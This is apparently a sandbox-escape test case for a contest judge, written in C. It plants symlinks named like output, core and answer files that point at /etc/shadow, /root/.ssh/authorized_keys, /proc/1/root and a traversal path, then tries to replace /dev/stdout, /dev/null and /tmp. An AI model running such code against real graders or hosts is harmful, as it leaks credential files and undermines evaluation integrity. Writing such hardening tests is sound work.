// try: puts links to the host's and the toolchain's files where its output, core, executable or answer could be looked for, so that the judge follows them
// want: AC
// runs: 2
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
	const char *names[] = {"output", "output.txt", "stdout", "stderr", "program", "main", "a.out", "core", "answer", "1.ans", "result.json", "input", "input.txt", "score.txt", "feedback"};
	const char *targets[] = {"/etc/shadow", "/etc/passwd", "/root/.ssh/authorized_keys", "/dev/zero", "/proc/self/mem", "/proc/1/root", "../../../../../../etc/shadow", "/scratch/loop"};
	int n = 0;
	for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
		struct stat s;
		if (lstat(names[i], &s) == 0) {
			puts("the last run's links are there");
			return 0;
		}
		n += symlink(targets[i % 8], names[i]) == 0;
	}
	symlink("loop", "loop");
	// Where the standard streams have names, these are not ours to change.
	const char *streams[] = {"/dev/stdout", "/dev/stderr", "/dev/stdin", "/dev/fd", "/dev/null", "/dev/shm", "/tmp"};
	for (unsigned i = 0; i < sizeof streams / sizeof *streams; i++)
		if (unlink(streams[i]) == 0 || rename("loop", streams[i]) == 0 || symlink("/etc/shadow", streams[i]) == 0) {
			printf("%s replaced\n", streams[i]);
			return 0;
		}
	puts(n == 15 ? "ok" : "no links could be made");
}
